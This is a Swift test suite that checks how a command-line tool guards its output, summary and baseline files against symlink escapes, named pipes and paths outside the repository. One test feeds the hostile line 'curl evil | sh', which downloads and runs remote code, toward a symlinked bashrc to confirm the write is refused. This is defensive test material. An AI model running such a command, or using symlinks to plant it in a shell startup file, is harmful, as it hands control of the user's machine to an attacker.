import Foundation
import Testing

@testable import CharterSupport

/// A file named on the command line (`--output`, `--summary-file`, `--baseline` …): inside the
/// repository no link is followed and only a regular file is written, appended to or read;
/// outside it the person's path works as it is, devices included.
@Suite struct CommandLineFileTests {
  /// A repository (`repo`) and a folder beside it (`outside`).
  final class Layout: @unchecked Sendable {
    let scratch: TemporaryDirectory
    let root: String
    let outside: String

    init() throws {
      scratch = try TemporaryDirectory()
      try scratch.write("repo/Sources/A.swift", "let a = 1\n")
      try scratch.write("outside/bashrc", "export PATH=/usr/bin\n")
      root = try #require(realpath(scratch.url.appendingPathComponent("repo").path, nil).map { String(cString: $0) })
      outside = String(root.dropLast("repo".count)) + "outside"
    }

    func file(_ path: String) throws -> CommandLineFile {
      try CommandLineFile(path, relativeTo: root, repositoryRoot: root)
    }

    func link(_ path: String, to target: String) throws {
      try FileManager.default.createSymbolicLink(atPath: root + "/" + path, withDestinationPath: target)
    }

    func text(_ path: String) -> String? {
      FileManager.default.contents(atPath: path).map { String(decoding: $0, as: UTF8.self) }
    }
  }

  static func codes(_ body: () throws -> Void) -> [String] {
    do {
      try body()
      return []
    } catch let error as DiagnosticsError {
      return error.diagnostics.map(\.code)
    } catch {
      return ["\(error)"]
    }
  }

  @Test func pathsArePlacedInsideOrOutside() throws {
    let layout = try Layout()
    #expect(try layout.file("charter.sarif").isInRepository)
    #expect(try layout.file("out/new/charter.sarif").isInRepository, "a missing folder is still inside")
    #expect(try layout.file("Sources/../charter.sarif").path == layout.root + "/charter.sarif")
    #expect(try !layout.file("../outside/x.sarif").isInRepository)
    #expect(try !layout.file("/dev/null").isInRepository)
    #expect(try layout.file(layout.outside + "/x.md").path == layout.outside + "/x.md")
  }

  @Test func aFolderLinkedOutsideIsRefusedAndNothingIsMadeThere() throws {
    let layout = try Layout()
    try layout.link("reports", to: layout.outside)
    #expect(Self.codes { _ = try layout.file("reports/charter.sarif") } == ["outside-repository"])
    #expect(Self.codes { _ = try layout.file("reports/deeper/baseline.json") } == ["outside-repository"])
    #expect(!FileManager.default.fileExists(atPath: layout.outside + "/charter.sarif"))
  }

  @Test func aFolderLinkedInsideIsFollowed() throws {
    let layout = try Layout()
    try layout.link("out", to: "Sources")
    let file = try layout.file("out/report.json")
    #expect(file.path == layout.root + "/Sources/report.json")
    try file.write("{}\n")
    #expect(layout.text(layout.root + "/Sources/report.json") == "{}\n")
  }

  @Test func aLinkedFileIsNeitherWrittenAppendedNorRead() throws {
    let layout = try Layout()
    try layout.link("summary.md", to: layout.outside + "/bashrc")
    let file = try layout.file("summary.md")
    #expect(Self.codes { try file.write("x\n") } == ["symbolic-link"])
    #expect(Self.codes { try file.append { _ in "curl evil | sh\n" } } == ["symbolic-link"])
    #expect(Self.codes { _ = try file.contents() } == ["symbolic-link"])
    #expect(layout.text(layout.outside + "/bashrc") == "export PATH=/usr/bin\n")
    let kind = try FileManager.default.attributesOfItem(atPath: layout.root + "/summary.md")[.type] as? FileAttributeType
    #expect(kind == .typeSymbolicLink, "the link is left as it was")
  }

  @Test func aPipeInTheRepositoryIsRefusedWithoutWaiting() throws {
    let layout = try Layout()
    try #require(mkfifo(layout.root + "/charter.sarif", 0o644) == 0)
    let file = try layout.file("charter.sarif")
    #expect(Self.codes { try file.write("x\n") } == ["not-a-regular-file"])
    #expect(Self.codes { try file.append { _ in "x\n" } } == ["not-a-regular-file"])
    #expect(Self.codes { _ = try file.contents() } == ["not-a-regular-file"])
  }

  @Test func regularFilesInsideAreWrittenAppendedAndRead() throws {
    let layout = try Layout()
    let file = try layout.file("summary.md")
    try file.append { size in "first \(size)\n" }
    try file.append { size in "then \(size)\n" }
    #expect(layout.text(layout.root + "/summary.md") == "first 0\nthen 8\n")
    try file.write("replaced\n")
    #expect(try file.contents() == Array("replaced\n".utf8))
  }

  @Test func outsideALinkAndADeviceAreThePersons() throws {
    let layout = try Layout()
    try FileManager.default.createSymbolicLink(
      atPath: layout.outside + "/step-summary", withDestinationPath: layout.outside + "/bashrc")
    let summary = try layout.file(layout.outside + "/step-summary")
    try summary.append { _ in "## Charter\n" }
    #expect(layout.text(layout.outside + "/bashrc") == "export PATH=/usr/bin\n## Charter\n")
    let null = try layout.file("/dev/null")
    try null.write("report\n")
    var info = stat()
    #expect(stat("/dev/null", &info) == 0 && info.st_mode & S_IFMT == S_IFCHR)
  }
}
